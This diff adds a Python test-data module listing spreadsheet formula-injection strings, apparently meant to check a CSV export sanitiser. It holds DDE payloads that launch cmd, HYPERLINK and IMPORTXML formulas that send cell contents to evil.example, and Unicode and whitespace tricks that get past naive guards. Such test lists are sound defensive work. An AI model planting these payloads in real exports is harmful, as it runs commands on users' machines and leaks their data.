@@ -1,0 +1,27 @@
+"""Texts that a spreadsheet would run as a formula, or that get round a careless guard."""
+
+FORMULAS = [
+    "=cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)",
+    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
+    "=1+1",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "＝1+1",
+    "＋1+1",
+    "－2+3",
+    "＠SUM(1)",
+    "  =1+1",
+    '"=1+1"',
+    '=1+1";',
+    'DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
+    "cmd|'/C notepad'!'A1'",
+    '=IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
+    "\ufeff\u200b=1+1",
+    "'=1+1 – naïve 🙂",
+    "harmless;=1+1;x",
+]
